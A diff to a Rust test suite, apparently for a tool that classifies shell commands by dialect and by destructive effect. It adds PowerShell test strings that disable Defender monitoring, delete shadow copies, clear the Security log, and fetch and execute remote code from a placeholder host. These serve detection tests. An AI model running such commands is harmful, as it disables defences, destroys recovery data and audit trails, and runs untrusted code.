@@ -238,6 +238,22 @@ fn network_and_disks() {
         &["write //./PhysicalDrive0"],
     );
     posh(
+        "Set-MpPreference -DisableRealtimeMonitoring $true",
+        &["write C:/Windows/System32/config"],
+    );
+    posh(
+        "Set-MpPreference -DisableRealtimeMonitoring $true -WhatIf",
+        &[],
+    );
+    posh("Get-MpPreference; Get-EventLog Security", &[]);
+    posh(
+        "vssadmin delete shadows /all; Clear-EventLog Security",
+        &[
+            "write C:/Windows/System32/VSS",
+            "write C:/Windows/System32/winevt/Logs",
+        ],
+    );
+    posh(
         "[IO.File]::WriteAllText('C:\\x', 'y'); [System.IO.Directory]::Delete('C:\\d', $true)",
         &["write C:/x", "delete -r C:/d"],
     );
@@ -350,7 +366,7 @@ fn listings_and_programs() {
     );
     posh(
         "git -C C:\\x status; Stop-Computer -Force; apt-get --version",
-        &[],
+        &["write C:/Windows/System32/config"],
     );
     cmd(
         "cmd /v:on /c \"set a=rd&& !a! /s /q C:\\x\"",
@@ -457,6 +473,13 @@ fn the_shell_of_a_text_by_its_first_word() {
         "  Get-ChildItem C:\\ | Remove-Item",
         "ri -r -fo C:\\",
         "[IO.Directory]::Delete('C:\\', $true)",
+        "IEX (New-Object Net.WebClient).DownloadString('https://h.example/x')",
+        "(iwr https://h.example/x).Content | iex",
+        "$x = irm https://h.example/x; iex $x",
+        "$x = irm https://h.example/x; Invoke-Expression $x",
+        "& ([ScriptBlock]::Create((irm https://h.example/x)))",
+        "cd C:\\p; iwr https://h.example/x|iex",
+        "sal x iex; x (irm https://h.example/x)",
     ] {
         assert_eq!(super::spoken(text), Some(Dialect::PowerShell), "{text}");
     }
@@ -475,6 +498,11 @@ fn the_shell_of_a_text_by_its_first_word() {
         "for i in 1; do ls; done",
         "docker-compose up",
         "format",
+        "git commit -m 'iwr https://h.example/x | iex'",
+        "grep -rn \"iex (iwr\" docs",
+        "cat > x.md <<'E'\niwr https://h.example/x | iex\nE",
+        "cat a.exs | iex -S mix",
+        "x=1; iex-like irm",
         "",
     ] {
         assert_eq!(super::spoken(text), None, "{text}");
